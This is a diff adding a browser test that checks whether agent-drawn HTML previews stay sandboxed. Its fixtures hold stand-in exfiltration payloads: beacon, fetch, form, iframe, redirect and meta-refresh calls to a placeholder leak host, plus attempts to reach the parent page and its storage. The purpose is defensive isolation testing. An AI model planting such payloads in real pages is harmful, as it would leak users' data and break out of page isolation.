@@ -34,6 +34,24 @@ const MARKDOWN = [
   '```html\n<script>hit()</script>\n```',
 ].join('\n\n');
 
+/** What a script of a drawing may try; its own look is its own. */
+const TRIES = `<style>h1 { color: rgb(1, 2, 3) }</style><h1>A drawing</h1><p id="outcome"></p>
+<img src="https://x.invalid/?leak"><link rel="stylesheet" href="https://x.invalid/?leak">
+<iframe src="https://x.invalid/?leak"></iframe>
+<form action="https://x.invalid/?leak"></form>
+<script>
+const nameOf = (act) => { try { act(); return 'done' } catch (error) { return error.name } };
+const page = nameOf(() => parent.hit());
+const storage = nameOf(() => parent.sessionStorage.length);
+document.forms[0].submit();
+window.open('https://x.invalid/?leak');
+navigator.sendBeacon?.('https://x.invalid/?leak');
+fetch('https://x.invalid/?leak').then(() => 'done', (error) => error.name).then((fetched) => {
+  document.getElementById('outcome').textContent = 'page: ' + page + ', storage: ' + storage + ', fetch: ' + fetched;
+  document.body.append('tried');
+});
+</script>`;
+
 const ADDRESSES = [
   'javascript:hit()',
   'JAVASCRIPT:hit()',
@@ -70,6 +88,49 @@ describe('content from outside', () => {
       expect(troubles).toEqual([]);
     },
   );
+});
+
+describe('HTML that an agent drew', () => {
+  it('runs apart from the page, asks for nothing and leads nowhere', async () => {
+    const { url } = await serveWorkspace({
+      drawn: {
+        'tries.html': TRIES,
+        'leaves.html': '<p>leaves</p><script>location = "https://x.invalid/?leak"</script>',
+        'links.html':
+          '<a href="https://x.invalid/?leak" ping="https://x.invalid/?leak">a</a><script>document.links[0].click()</script>',
+        'is-sent-away.html': '<meta http-equiv="refresh" content="0;url=https://x.invalid/?leak"><p>sent</p>',
+      },
+    });
+    const { page } = await openPage(browser, DESKTOP);
+    onTestFinished(() => page.context().close());
+    await page.addInitScript(watchScripts);
+    const reached: string[] = [];
+    await page.context().route(/x\.invalid/, (route) => {
+      reached.push(route.request().url());
+      return route.abort();
+    });
+    await enter(page, url);
+    await page.getByRole('tab', { name: 'Plans and previews' }).click();
+
+    await page.getByRole('button', { name: 'tries.html' }).click();
+    const drawn = page.frameLocator('iframe');
+    await drawn.getByText('tried').waitFor();
+    const colour = await drawn.locator('h1').evaluate((title) => getComputedStyle(title).color);
+    const outcome = await drawn.locator('#outcome').textContent();
+    for (const name of ['leaves.html', 'links.html', 'is-sent-away.html']) {
+      const refusal = page.waitForEvent('console', (message) => message.text().includes("frame-src 'self'"));
+      await page.getByRole('button', { name }).click();
+      await refusal;
+    }
+
+    expect({ colour, outcome, hits: (await evidenceOf(page)).hits }).toEqual({
+      colour: 'rgb(1, 2, 3)',
+      outcome: 'page: SecurityError, storage: SecurityError, fetch: TypeError',
+      hits: 0,
+    });
+    expect(reached).toEqual([]);
+    expect(page.url()).toBe(`${url}/inspect`);
+  });
 });
 
 describe('what cannot be seen', () => {
@@ -180,6 +241,7 @@ function hostileWorkspace(): Partial<Shown> {
     diff: `diff --git a/${HOSTILE}\n@@ ${HOSTILE}\n+${HOSTILE}\n-${HOSTILE}`,
     hookLines: [HOSTILE],
     waiting: [HOSTILE],
+    drawn: { [HOSTILE]: HOSTILE },
     requests: [
       requestOf(HOSTILE),
       { ...requestOf(HOSTILE), id: 'r2', kind: 'plan', plan: MARKDOWN },
@@ -232,6 +294,7 @@ const PLACES = [
   partOf('Work', 'Chats'),
   partOf('Work', 'Boot and hooks'),
   partOf('Work', 'Repositories'),
+  partOf('Work', 'Plans and previews'),
   partOf('Work', 'Credentials'),
   partOf('Actors', null),
   partOf('Details', 'Transitions'),
